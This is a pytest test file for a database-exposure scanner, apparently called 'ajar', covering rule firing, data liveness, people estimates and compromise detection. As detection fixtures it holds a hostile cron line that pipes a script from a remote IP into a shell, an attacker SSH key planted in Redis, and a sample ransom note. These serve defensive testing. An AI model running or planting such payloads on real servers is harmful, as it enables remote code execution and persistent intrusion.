"""assess: the rule table (every rule fires in a test), liveness, people, compromise signs."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from bson import ObjectId

from ajar.knowledge import Signal, end_of_life_hit
from ajar.models import (
    Access,
    Category,
    Dataset,
    FieldReport,
    Inference,
    Liveness,
    PeopleEstimate,
    Record,
    Rights,
    Service,
    Severity,
    Status,
)
from ajar.pipeline.assess import DatasetEvidence, assess_dataset, assess_service
from ajar.pipeline.findings import knowledge_of
from ajar.probes.etcd import EtcdProbe
from ajar.probes.redis import RedisProbe
from ajar.rules import RULES, RULES_BY_ID, names_suggest_personal

NOW = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
BTC = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
CONTACT = "recover.team.canary@example.org"
CRON = "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n"


@dataclass
class Classified:
    """A hand-built stand-in for pipeline.classify.ClassifiedDataset."""

    fields: list[FieldReport] = field(default_factory=list)
    movement_trail: bool = False
    trail_detail: dict[str, str] = field(default_factory=dict)
    person_key: str | None = None
    timestamp_paths: list[str] = field(default_factory=list)


def fr(path: str, cat: Category) -> FieldReport:
    return FieldReport(path=path, category=cat, confidence=0.9, prevalence=0.9, values=10, examples=["a***z"])


def ds(name: str, *cats: Category, records: int | None = 100, **kw: Any) -> Dataset:
    return Dataset(name=name, records=records, sampled=10, fields=[fr(c.value.split(".")[1], c) for c in cats], **kw)


def svc(access: Access = Access.OPEN, datasets: list[Dataset] | None = None, **kw: Any) -> Service:
    base: dict[str, Any] = {
        "host": "127.0.0.2",
        "port": 27017,
        "engine": "mongodb",
        "version": "7.0.2",
        "tls": True,
        "status": Status.SUCCESS,
    }
    base.update(kw)
    return Service(access=access, datasets=datasets or [], **base)


def rules_of(s: Service) -> set[str]:
    return {f.rule for f in s.findings}


def signal(rule: str, *datasets: str, detail: str = "") -> Signal:
    return Signal(rule, detail, datasets)


#: Sightings whose place field is a mosque in 12 % of values: religion inferred.
MOSQUE_VISITS = Inference(category=Category.RELIGION, inferred_from="place", kind="worship", share=0.12, values=6)


def live() -> Liveness:
    return Liveness(records_per_day=5000.0, newest_record_age_seconds=60.0, method="newest record from `ts`")


# --- every rule fires ----------------------------------------------------------------------------

Case = Callable[[], tuple[Service, list[Signal]]]

CASES: dict[str, Case] = {
    "exposure.sensitive": lambda: (svc(datasets=[ds("hr.people", Category.NATIONAL_ID)]), []),
    "exposure.movement_trail": lambda: (
        svc(datasets=[ds("cam.sightings", Category.COORDINATES, movement_trail=True)]),
        [],
    ),
    "exposure.trail_sensitive_places": lambda: (
        svc(datasets=[ds("cam.sightings", Category.COORDINATES, movement_trail=True, inferred=[MOSQUE_VISITS])]),
        [],
    ),
    "exposure.location_linked": lambda: (
        svc(datasets=[ds("app.users", Category.COORDINATES, Category.PHONE)]),
        [],
    ),
    "compromise.ransom_note": lambda: (
        svc(datasets=[ds("README.note")]),
        [signal("compromise.ransom_note", "README.note")],
    ),
    "compromise.wiped": lambda: (
        svc(datasets=[ds("README.note"), ds("app.users", records=0)]),
        [signal("compromise.ransom_note", "README.note")],
    ),
    "stakes.volume_massive": lambda: (
        svc(datasets=[ds("a.b", Category.EMAIL, people=PeopleEstimate(count=2_500_000, method="m"))]),
        [],
    ),
    "exposure.personal": lambda: (svc(datasets=[ds("shop.customers", Category.EMAIL)]), []),
    "access.anonymous_write": lambda: (svc(rights=Rights(read=True, write=True, basis="roles")), []),
    "stakes.live_personal": lambda: (
        svc(datasets=[ds("cam.sightings", Category.PERSON_NAME, liveness=live())]),
        [],
    ),
    "stakes.volume": lambda: (
        svc(datasets=[ds("a.b", Category.EMAIL, people=PeopleEstimate(count=50_000, method="m"))]),
        [],
    ),
    "exposure.records": lambda: (svc(datasets=[ds("logs.events")]), []),
    "exposure.metadata_personal": lambda: (
        svc(Access.METADATA, datasets=[ds("crm.customers", records=None)]),
        [],
    ),
    "stakes.live_data": lambda: (svc(datasets=[ds("metrics.cpu", liveness=live())]), []),
    "exposure.metadata": lambda: (svc(Access.METADATA, datasets=[ds("cache.blobs")]), []),
    "exposure.unknown": lambda: (svc(Access.UNKNOWN, status=Status.PROTOCOL_ERROR), []),
    "weak.no_tls": lambda: (svc(Access.AUTH_REQUIRED, tls=False), []),
    "weak.eol_version": lambda: (svc(Access.AUTH_REQUIRED, version="4.4.29"), []),
    "weak.dangerous_setting": lambda: (
        svc(Access.AUTH_REQUIRED, engine="redis", port=6379),
        [signal("weak.dangerous_setting", detail="protected-mode no")],
    ),
    "access.auth_required": lambda: (svc(Access.AUTH_REQUIRED), []),
}


def test_every_rule_has_a_case() -> None:
    missing = {r.id for r in RULES} - set(CASES)
    assert not missing, f"add a case to CASES in tests/pipeline/test_assess.py for: {sorted(missing)}"
    assert not set(CASES) - set(RULES_BY_ID), "CASES names a rule that is not in ajar.rules.RULES"


@pytest.mark.parametrize("rule", [r.id for r in RULES])
def test_rule_fires(rule: str) -> None:
    s, extra = CASES[rule]()
    assess_service(s, extra)
    found = [f for f in s.findings if f.rule == rule]
    assert found, f"{rule} did not fire; fired: {sorted(rules_of(s))}"
    for f in found:
        assert f.severity == RULES_BY_ID[rule].severity
        assert f.remediation and f.verify
    assert s.severity.rank >= RULES_BY_ID[rule].severity.rank
    assert s.severity == max((f.severity for f in s.findings), key=lambda x: x.rank)


#: Hard negatives: (name, service, the rule that must NOT fire, why it must not).
NEGATIVES: list[tuple[str, Callable[[], Service], str, str]] = [
    ("auth required over sensitive names", lambda: svc(Access.AUTH_REQUIRED, datasets=[ds("hr.people",
     Category.NATIONAL_ID)]), "exposure.sensitive", "the server asked for credentials: nothing was read"),
    ("metadata with plain names", lambda: svc(Access.METADATA, datasets=[ds("cache.blobs")]),
     "exposure.metadata_personal", "no dataset or field name suggests personal data"),
    ("one recent record", lambda: svc(datasets=[ds("x.README", liveness=Liveness(
        records_per_day=None, newest_record_age_seconds=60.0, method="rate not measured"))]),
     "stakes.live_data", "a recent record without a measured rate is not a rate (issue 9)"),
    ("a measured rate of old data", lambda: svc(datasets=[ds("x.log", liveness=Liveness(
        records_per_day=100.0, newest_record_age_seconds=40 * 86_400.0, method="rate from the 50 newest"))]),
     "stakes.live_data", "the newest record is 40 days old: the rate describes the past"),
    ("growth without a rate", lambda: svc(datasets=[ds("x.log", liveness=Liveness(
        records_per_day=0.0, newest_record_age_seconds=None, method="no growth during the scan (30 s)"))]),
     "stakes.live_data", "a count that did not move is not live"),
    ("TLS on", lambda: svc(Access.AUTH_REQUIRED, tls=True), "weak.no_tls", "the service speaks TLS"),
    ("supported MongoDB", lambda: svc(Access.AUTH_REQUIRED, version="7.0.2"), "weak.eol_version",
     "7.0 is above MongoDB's oldest supported branch, 6.0"),
    ("end-of-life of an engine without a policy", lambda: svc(Access.AUTH_REQUIRED, engine="memcached",
     version="1.2.0"), "weak.eol_version", "memcached declares no end-of-life floor: ajar does not guess one"),
    ("empty datasets alone", lambda: svc(datasets=[ds("app.users", records=0)]), "compromise.wiped",
     "empty collections are not a wipe without a ransom note beside them"),
    ("places without people", lambda: svc(datasets=[ds("weather.stations", Category.COORDINATES)]),
     "exposure.location_linked", "coordinates with no person identifier are places, not people"),
    ("read rights only", lambda: svc(rights=Rights(read=True, basis="roles")), "access.anonymous_write",
     "no write or admin right was granted"),
    ("unknown without an engine", lambda: svc(Access.UNKNOWN, engine=None, status=Status.TIMEOUT),
     "exposure.unknown", "nothing was identified: there is no service to judge"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "build", "rule", "why"), NEGATIVES, ids=[n[0] for n in NEGATIVES])
def test_rule_does_not_fire(name: str, build: Callable[[], Service], rule: str, why: str) -> None:
    s = build()
    assess_service(s)
    assert rule not in rules_of(s), f"{name}: {rule} fired, but must not: {why}"


def test_table_is_well_formed() -> None:
    for r in RULES:
        assert r.id == r.id.lower() and "." in r.id and r.title and r.when


def test_critical_intent_of_design() -> None:
    s = svc(datasets=[ds("p.people", Category.ETHNICITY, Category.PERSON_NAME)])
    assess_service(s)
    assert s.severity == Severity.CRITICAL
    assert {"exposure.sensitive", "exposure.personal"} <= rules_of(s)


def test_auth_required_alone_is_info_and_has_no_exposure() -> None:
    s = svc(Access.AUTH_REQUIRED, datasets=[ds("hr.people", Category.NATIONAL_ID)])
    assess_service(s)
    assert s.severity == Severity.INFO
    assert rules_of(s) == {"access.auth_required"}


def test_unknown_is_never_closed() -> None:
    s = svc(Access.UNKNOWN, status=Status.TIMEOUT)
    assess_service(s)
    assert s.severity == Severity.LOW and "exposure.unknown" in rules_of(s)
    assert "not a sign that it is closed" in s.findings[0].remediation


def test_findings_are_ordered_worst_first() -> None:
    s = svc(datasets=[ds("hr.people", Category.NATIONAL_ID, Category.EMAIL)], tls=False)
    assess_service(s)
    ranks = [f.severity.rank for f in s.findings]
    assert ranks == sorted(ranks, reverse=True)


def test_signalled_severity_comes_from_the_table_and_an_unknown_rule_is_a_probe_bug() -> None:
    s = svc(Access.AUTH_REQUIRED)
    assess_service(s, [signal("weak.no_tls"), signal("probe.custom")])
    no_tls = [f for f in s.findings if f.rule == "weak.no_tls"]
    assert no_tls and no_tls[0].severity == Severity.LOW
    # a rule no table row names is never reported with a severity of the probe's choosing
    assert "probe.custom" not in rules_of(s)
    assert s.status == Status.ERROR and s.error and "probe.custom" in s.error
    assert s.severity == Severity.LOW


def test_signals_of_the_same_rule_merge_datasets() -> None:
    s = svc(datasets=[ds("a.README"), ds("b.README")])
    assess_service(s, [signal("compromise.ransom_note", "a.README"), signal("compromise.ransom_note", "b.README")])
    notes = [f for f in s.findings if f.rule == "compromise.ransom_note"]
    assert len(notes) == 1 and notes[0].datasets == ["a.README", "b.README"]


#: (name, engine, version, end-of-life?, why): the floors each probe declares, read through the framework
EOL_CASES = [
    ("old MongoDB", "mongodb", "4.4.29", True, "4.4 is below MongoDB's floor 6.0"),
    ("supported MongoDB", "mongodb", "7.0.2", False, "7.0 is above the floor"),
    ("old MariaDB", "mysql", "10.3.39-MariaDB", True, "the marker picks MariaDB's floor 10.6"),
    ("supported MariaDB", "mysql", "10.11.6-MariaDB-0+deb12u1", False,
     "10.11 is below MySQL's floor 8.0 numerically but is MariaDB, whose floor is 10.6"),
    ("old MySQL", "mysql", "5.7.44", True, "5.7 is below MySQL's floor 8.0"),
    ("supported Redis", "redis", "7.0.15", False, "7.0 is above Redis's floor 6.2"),
    ("ClickHouse 18", "clickhouse", "18.16.1", True, "18.16 is below ClickHouse's floor 24.3"),
    ("memcached", "memcached", "1.6.18", False, "memcached declares no floor: ajar does not guess one"),
    ("no version", "redis", None, False, "nothing to compare: never a verdict from silence"),
    ("an engine ajar does not know", "nosuchdb", "0.1", False, "the generic knowledge has no floor"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "engine", "version", "eol", "why"), EOL_CASES, ids=[c[0] for c in EOL_CASES])
def test_eol_table(name: str, engine: str, version: str | None, eol: bool, why: str) -> None:
    got = end_of_life_hit(knowledge_of(engine).end_of_life, version) is not None
    assert got == eol, f"{name}: {why}"


@pytest.mark.parametrize(
    ("name", "yes"),
    [
        ("crm.customers", True),
        ("app.userProfiles", True),
        ("db.sfzh", True),
        ("人口.住址", True),
        ("cache.blobs", False),
        ("metrics.cpu", False),
    ],
)
def test_names_suggest_personal(name: str, yes: bool) -> None:
    assert names_suggest_personal(name) == yes


# --- remediation ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("engine", "line", "verify"),
    [
        ("mongodb", "authorization: enabled", "auth_required"),
        ("mongodb", "bindIp: 127.0.0.1", "mongosh"),
        ("redis", "requirepass", "NOAUTH"),
        ("redis", "protected-mode yes", "redis-cli"),
        ("redis", "bind 127.0.0.1", "ping"),
        ("postgresql", "scram-sha-256", "psql"),
        ("mysql", "bind-address = 127.0.0.1", "Access denied"),
        ("mqtt", "allow_anonymous false", "mosquitto_sub"),
        ("elasticsearch", "xpack.security.enabled: true", "401"),
        ("elasticsearch", "plugins.security", "401"),
        ("couchdb", "require_valid_user = true", "401"),
        ("influxdb", "auth-enabled = true", "401"),
    ],
)
def test_remediation_has_exact_config_lines(engine: str, line: str, verify: str) -> None:
    s = svc(datasets=[ds("x.users", Category.EMAIL)], engine=engine)
    assess_service(s)
    f = next(f for f in s.findings if f.rule == "exposure.personal")
    assert line in f.remediation
    assert verify in f.verify
    assert "Do not rely on blocking foreign IP" in f.remediation


def test_no_tls_remediation_names_tls_settings() -> None:
    s = svc(Access.AUTH_REQUIRED, engine="redis", tls=False)
    assess_service(s)
    f = next(f for f in s.findings if f.rule == "weak.no_tls")
    assert "tls-port" in f.remediation and "openssl s_client" in f.verify


# --- liveness ------------------------------------------------------------------------------------


def ev(records: list[Record], **kw: Any) -> DatasetEvidence:
    cls = kw.pop("classified", Classified())
    return DatasetEvidence(records=records, classified=cls, **kw)


def test_liveness_from_timestamp_fields_of_mixed_forms() -> None:
    recs = [
        Record({"ts": NOW - timedelta(minutes=3)}),
        Record({"ts": (NOW - timedelta(hours=2)).isoformat()}),
        Record({"ts": int((NOW - timedelta(days=3)).timestamp() * 1000)}),  # epoch ms
        Record({"ts": (NOW - timedelta(days=10)).timestamp()}),  # epoch s
        Record({"ts": "not a time"}),
    ]
    d = ds("cam.sightings", records=1000)
    assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None
    assert d.liveness.newest_record_age_seconds == pytest.approx(180)
    # four dated records are not a rate (issue 9): the age is reported, the rate is not measured
    assert d.liveness.records_per_day is None
    assert "`ts`" in d.liveness.method and "rate not measured: 4 dated record(s)" in d.liveness.method


def test_liveness_rate_from_enough_sampled_records_spread_over_time() -> None:
    # 20 of 40 dated records in the last day, spread over days: a measured rate, scaled to the count
    recs = [Record({"ts": NOW - timedelta(minutes=30 * i)}) for i in range(20)]
    recs += [Record({"ts": NOW - timedelta(days=2 + i)}) for i in range(20)]
    d = ds("cam.sightings", records=1000)
    assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day == pytest.approx(20 / 40 * 1000)
    assert "20 of 40 dated" in d.liveness.method


@pytest.mark.parametrize(
    ("case", "times"),
    [
        # a ransom note: one record, written a minute ago (the demo's "14,564 records a day")
        ("one record", [timedelta(minutes=1)]),
        # one insert_many: 50 records within a second (the "280,603 new records a day")
        ("one batch", [timedelta(milliseconds=10 * i) for i in range(50)]),
        # 19 records over a day: one short of the minimum count
        ("too few", [timedelta(hours=i) for i in range(19)]),
        # 100 records within 9 minutes: short of the minimum span
        ("too short", [timedelta(seconds=5 * i) for i in range(100)]),
    ],
)
def test_no_rate_and_no_live_finding_without_enough_evidence(case: str, times: list[timedelta]) -> None:
    recs = [Record({"ts": NOW - t}) for t in times]
    d = ds("x.notes", records=len(recs))
    out = assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"]), newest=recs), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day is None, case
    assert "rate not measured" in d.liveness.method
    assert not [f for f in out if f.rule.startswith("stakes.live")], case


def test_liveness_nested_path_in_arrays_and_future_times_ignored() -> None:
    recs = [Record({"ev": [{"at": NOW - timedelta(minutes=10)}, {"at": NOW + timedelta(days=400)}]})]
    d = ds("x.y", records=1)
    assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ev.at"])), now=NOW)
    assert d.liveness is not None and d.liveness.newest_record_age_seconds == pytest.approx(600)


def test_liveness_from_objectid_times_in_meta() -> None:
    # 14 records in the last day, 7 older, each at its own time (a few bursts are no rate)
    ages = [30 + 3000 * i for i in range(14)] + [90_000 + 600 * i for i in range(7)]
    oids = [ObjectId.from_datetime(NOW - timedelta(seconds=s)) for s in ages]
    recs = [Record({"x": 1}, meta={"created": o.generation_time}) for o in oids]
    recs.append(Record({"x": 2}, meta={"created": oids[0]}))  # an ObjectId itself also works
    d = ds("cam.sightings", records=400)
    findings = assess_dataset(d, ev(recs), now=NOW)
    assert d.liveness is not None
    assert d.liveness.newest_record_age_seconds == pytest.approx(30)
    assert "creation times" in d.liveness.method
    assert d.liveness.records_per_day == pytest.approx(15 / 22 * 400)
    assert [f.rule for f in findings] == ["stakes.live_data"]


def test_liveness_from_growth_during_the_scan() -> None:
    d = ds("cam.sightings", Category.COORDINATES, records=10_000)
    findings = assess_dataset(
        d,
        ev([], count_before=10_000, t_before=100.0, count_after=10_060, t_after=160.0),
        now=NOW,
    )
    assert d.liveness is not None
    assert d.liveness.records_per_day == pytest.approx(86_400)
    assert "growth" in d.liveness.method and d.liveness.newest_record_age_seconds is None
    assert [f.rule for f in findings] == ["stakes.live_personal"]


def test_no_growth_and_no_times_is_not_live() -> None:
    d = ds("a.b", records=5)
    out = assess_dataset(
        d,
        ev([Record({"x": 1})], count_before=5, t_before=0.0, count_after=5, t_after=30.0),
        now=NOW,
    )
    assert d.liveness is not None and d.liveness.records_per_day == 0.0
    assert out == []


def test_no_liveness_source_gives_none() -> None:
    d = ds("a.b")
    assess_dataset(d, ev([Record({"x": 1})]), now=NOW)
    assert d.liveness is None


def test_old_data_is_not_live() -> None:
    recs = [Record({"ts": NOW - timedelta(days=40)})]
    d = ds("a.b", Category.EMAIL)
    out = assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day is None  # one record: not measured
    assert not [f for f in out if f.rule.startswith("stakes.live")]


# --- people --------------------------------------------------------------------------------------


def test_people_from_distinct_person_keys_scaled() -> None:
    recs = [Record({"pid": f"P{i % 25}", "loc": [1, 2]}) for i in range(100)]
    d = ds("cam.sightings", Category.COORDINATES, records=1_000_000)
    assess_dataset(d, ev(recs, classified=Classified(person_key="pid")), now=NOW)
    # 25 people, each seen 4 times in 100 sampled sightings: the sample has seen them all
    assert d.people is not None and d.people.count == 25
    assert "Chao1" in d.people.method and "25 distinct `pid`" in d.people.method and "P1" not in d.people.method


def test_people_of_an_event_log_with_unrepeated_keys_is_a_lower_bound() -> None:
    """Sightings whose sampled person keys never repeat: not one person per record."""
    recs = [Record({"sfzh": f"ID{i}", "loc": [1, 2]}) for i in range(30)]
    d = ds("cam.sightings", Category.COORDINATES, Category.NATIONAL_ID, records=5000)
    d.movement_trail = True
    assess_dataset(d, ev(recs, classified=Classified(person_key="sfzh")), now=NOW)
    assert d.people is not None and d.people.count == 30 + 30 * 29 // 2
    assert "lower bound" in d.people.method


def test_people_one_per_record_when_every_key_differs() -> None:
    recs = [Record({"sfzh": f"ID{i}"}) for i in range(50)]
    d = ds("hr.people", Category.NATIONAL_ID, records=2_500_000)
    assess_dataset(d, ev(recs, classified=Classified(person_key="sfzh")), now=NOW)
    assert d.people == PeopleEstimate(count=2_500_000, method=d.people.method if d.people else "")
    assert "one person per record" in (d.people.method if d.people else "")


def test_people_one_per_record_from_shape_without_key() -> None:
    d = ds("shop.customers", Category.PERSON_NAME, Category.EMAIL, records=1234)
    assess_dataset(d, ev([Record({"n": "x"})]), now=NOW)
    assert d.people is not None and d.people.count == 1234 and "one person per record" in d.people.method


def test_no_people_without_personal_data() -> None:
    d = ds("logs.events", records=99)
    assess_dataset(d, ev([Record({"x": 1})]), now=NOW)
    assert d.people is None


def test_service_people_is_the_largest_dataset_estimate() -> None:
    s = svc(
        datasets=[
            ds("a.people", Category.NATIONAL_ID, people=PeopleEstimate(count=500, method="m1")),
            ds("a.sightings", Category.COORDINATES, people=PeopleEstimate(count=300, method="m2")),
        ]
    )
    assess_service(s)
    assert s.people is not None and s.people.count == 500
    assert "a.people" in s.people.method and "800" in s.people.method


def test_trail_sets_dataset_flag_and_note() -> None:
    d = ds("cam.sightings", Category.COORDINATES)
    c = Classified(movement_trail=True, trail_detail={"coordinates": "loc", "time": "ts", "person": "pid"})
    assess_dataset(d, ev([Record({"x": 1})], classified=c), now=NOW)
    assert d.movement_trail and any("loc" in n for n in d.notes)


# --- compromise signs ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "README.README",
        "db.WARNING",
        "PLEASE_READ_ME.x",
        "x.how_to_recover",
        "READ__ME_TO_RECOVER_YOUR_DATA.README",
        "x.readme_to_recover",
    ],
)
def test_ransom_note_flagged(name: str) -> None:
    recs = [
        Record(
            {"content": f"All your data is backed up. You must pay 0.01 BTC to {BTC} to recover it. Contact {CONTACT}"}
        )
    ]
    d = ds(name, records=1)
    out = assess_dataset(d, ev(recs), now=NOW)
    notes = [f for f in out if f.rule == "compromise.ransom_note"]
    assert notes and notes[0].datasets == (name,)
    assert "Bitcoin address" in notes[0].detail and "contact email" in notes[0].detail
    text = " ".join(repr(f) for f in out) + " ".join(d.notes)
    assert BTC not in text and CONTACT not in text


def test_readme_without_payment_details_is_only_a_note() -> None:
    d = ds("docs.README", records=1)
    out = assess_dataset(d, ev([Record({"text": "How to build the docs"})]), now=NOW)
    assert out == [] and any("ransom note" in n for n in d.notes)


def test_ransom_wording_with_btc_in_any_dataset() -> None:
    d = ds("app.msg", records=1)
    out = assess_dataset(
        d, ev([Record({"m": f"send bitcoin to {BTC} to restore your database"})]), now=NOW
    )
    assert [f.rule for f in out] == ["compromise.ransom_note"]


def test_wiped_datasets_beside_a_ransom_note() -> None:
    recs = [Record({"content": f"pay to {BTC}"})]
    note = ds("READ_ME_TO_RECOVER.README", records=1)
    extra = assess_dataset(note, ev(recs), now=NOW)
    s = svc(datasets=[note, ds("app.users", records=0), ds("app.orders", records=0), ds("app.logs", records=5)])
    assess_service(s, extra)
    wiped = next(f for f in s.findings if f.rule == "compromise.wiped")
    assert wiped.datasets == ["app.users", "app.orders"]
    assert s.severity == Severity.CRITICAL


def test_meow_wiped_index() -> None:
    d = ds("a8f3kd9w-meow", records=0)
    out = assess_dataset(d, ev([]), now=NOW)
    assert [f.rule for f in out] == ["compromise.wiped"]


@pytest.mark.parametrize("key", ["backup1", "backup2", "backup3", "backup4", "crontab"])
def test_redis_cron_keys(key: str) -> None:
    recs = [Record({"key": key, "value": CRON}), Record({"key": "user:1", "value": "ok"})]
    d = ds("db0", records=2, kind="keyspace")
    out = assess_dataset(d, ev(recs), knowledge=RedisProbe, now=NOW)
    f = next(f for f in out if f.rule == "compromise.redis_cron")
    assert key in f.detail and "user:1" not in f.detail
    assert "203.0.113.9" not in repr(f)
    s = svc(engine="redis", port=6379, datasets=[d])
    assess_service(s, out)
    assert s.severity == Severity.CRITICAL and "compromise.redis_cron" in rules_of(s)
    assert "/var/spool/cron" in next(x for x in s.findings if x.rule == "compromise.redis_cron").remediation


def test_redis_cron_payload_under_an_unknown_key_does_not_print_the_key() -> None:
    recs = [Record({"x": CRON}, meta={"key": "session:alice.canary@example.org"})]
    d = ds("db0", records=1)
    out = assess_dataset(d, ev(recs), knowledge=RedisProbe, now=NOW)
    f = next(f for f in out if f.rule == "compromise.redis_cron")
    assert "1 other key" in f.detail and "alice" not in f.detail


def test_redis_ssh_key_under_crackit() -> None:
    recs = [Record({"key": "crackit", "value": "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@box\n\n"})]
    out = assess_dataset(ds("db0"), ev(recs), knowledge=RedisProbe, now=NOW)
    assert [f.rule for f in out] == ["compromise.redis_cron"]


def test_cron_payload_outside_redis_is_not_flagged() -> None:
    out = assess_dataset(ds("etc.jobs"), ev([Record({"key": "backup1", "v": CRON})]), knowledge=EtcdProbe, now=NOW)
    assert out == []


def test_evidence_repr_hides_records() -> None:
    e = ev([Record({"ssn": "078-05-1120"})])
    assert "078" not in repr(e)


def test_verify_commands_name_the_service() -> None:
    s = svc(engine="redis", host="127.0.0.2", port=6380, datasets=[ds("db0", Category.EMAIL)])
    assess_service(s)
    f = next(f for f in s.findings if f.rule == "exposure.personal")
    assert "redis-cli -h 127.0.0.2 -p 6380 ping" in f.verify and "ajar scan 127.0.0.2:6380" in f.verify
    assert "HOST" not in f.verify


def test_liveness_from_the_newest_records_beats_the_sample() -> None:
    """A young dataset (all of it from the last hour) written at 60 a minute: the newest
    records (enough of them, over more than 10 minutes) give the writer's rate, and so does the
    sample-window estimate."""
    newest = [Record({"ts": NOW - timedelta(seconds=s)}) for s in range(0, 700)]
    sample = [Record({"ts": NOW - timedelta(seconds=s)}) for s in range(0, 3600, 36)]
    d = ds("cam.sightings", Category.COORDINATES, records=3600)
    cls = Classified(timestamp_paths=["ts"])
    assess_dataset(d, ev(sample, classified=cls, newest=newest), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day == pytest.approx(86_400, rel=0.01)
    assert "700 newest records" in d.liveness.method
    d2 = ds("cam.sightings", Category.COORDINATES, records=3600)
    assess_dataset(d2, ev(sample, classified=cls), now=NOW)
    assert d2.liveness is not None and d2.liveness.records_per_day == pytest.approx(86_400, rel=0.05)


def test_old_records_among_the_newest_do_not_drag_the_rate_to_nothing() -> None:
    """Red team R2-6: 40 records a minute apart, every other one ten years older. The rate is the
    recent writer's (20 records in 38 min: about 750 a day), not "about 0 a day" over ten years."""
    newest = [Record({"ts": NOW - timedelta(minutes=i) - (timedelta(days=3650) if i % 2 else timedelta())})
              for i in range(40)]
    d = ds("cam.sightings", Category.COORDINATES, records=40)
    out = assess_dataset(d, ev(newest, classified=Classified(timestamp_paths=["ts"]), newest=newest), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day == pytest.approx(19 / 38 * 1440, rel=0.01)
    (live,) = [f for f in out if f.rule == "stakes.live_personal"]
    assert "about 0 new" not in live.detail


def test_a_rate_of_the_past_is_history_not_liveness() -> None:
    """Red team R2-6: 40 records a minute apart, all in February 2019: no records_per_day of 1,440
    beside a newest record 7 years old; the method calls it historical, and nothing is live."""
    then = datetime(2019, 2, 1, tzinfo=UTC)
    newest = [Record({"ts": then - timedelta(minutes=i)}) for i in range(40)]
    d = ds("cam.sightings", Category.COORDINATES, records=40)
    out = assess_dataset(d, ev(newest, classified=Classified(timestamp_paths=["ts"]), newest=newest), now=NOW)
    assert d.liveness is not None and not d.liveness.records_per_day  # none in the last day, never 1,440
    assert d.liveness.method.count("historical: the 40 newest records arrived at about 1,440 a day") == 1
    assert "rate not measured" not in d.liveness.method
    assert not [f for f in out if f.rule.startswith("stakes.live")]


def test_less_than_one_record_a_day_is_not_live() -> None:
    """Three of 100 sampled records are from the last hours, of 10 in all: about 0.3 a day, which the
    finding would print as "about 0 new records per day". It is measured, and it is not live."""
    recs = [Record({"ts": NOW - timedelta(minutes=30 * (i + 1))}) for i in range(3)]
    recs += [Record({"ts": NOW - timedelta(days=30 + i)}) for i in range(97)]
    d = ds("a.b", Category.EMAIL, records=10)
    out = assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day == pytest.approx(0.3)
    assert not [f for f in out if f.rule.startswith("stakes.live")]


@pytest.mark.parametrize("recent", [1, 2])
def test_one_or_two_recent_records_of_a_sample_are_no_rate(recent: int) -> None:
    """One of 50 sampled records from the last hour, of 500 in all, read as 10 a day and the dataset as live
    (the demo's checkins): one or two records are no rate. Three are (the next test's bound)."""
    recs = [Record({"ts": NOW - timedelta(minutes=30 * (i + 1))}) for i in range(recent)]
    recs += [Record({"ts": NOW - timedelta(days=2 + i)}) for i in range(50 - recent)]
    d = ds("a.b", Category.EMAIL, records=500)
    out = assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day is None
    assert f"rate not measured: {recent} of 50 dated sampled records fall in the last 24.0 h" in d.liveness.method
    assert d.liveness.method.count("rate not measured") == 1
    assert not [f for f in out if f.rule.startswith("stakes.live")]
    recs = [Record({"ts": NOW - timedelta(minutes=30 * (i + 1))}) for i in range(3)]
    recs += [Record({"ts": NOW - timedelta(days=2 + i)}) for i in range(47)]
    d = ds("a.b", Category.EMAIL, records=500)
    out = assess_dataset(d, ev(recs, classified=Classified(timestamp_paths=["ts"])), now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day == pytest.approx(3 / 50 * 500)
    assert [f for f in out if f.rule.startswith("stakes.live")]


def test_a_short_scan_without_growth_says_nothing_about_the_rate() -> None:
    d = ds("a.b", records=5)
    assess_dataset(d, ev([Record({"x": 1})], count_before=5, t_before=0.0, count_after=5, t_after=0.4),
                   now=NOW)
    assert d.liveness is not None and d.liveness.records_per_day is None
    assert "rate not measured" in d.liveness.method
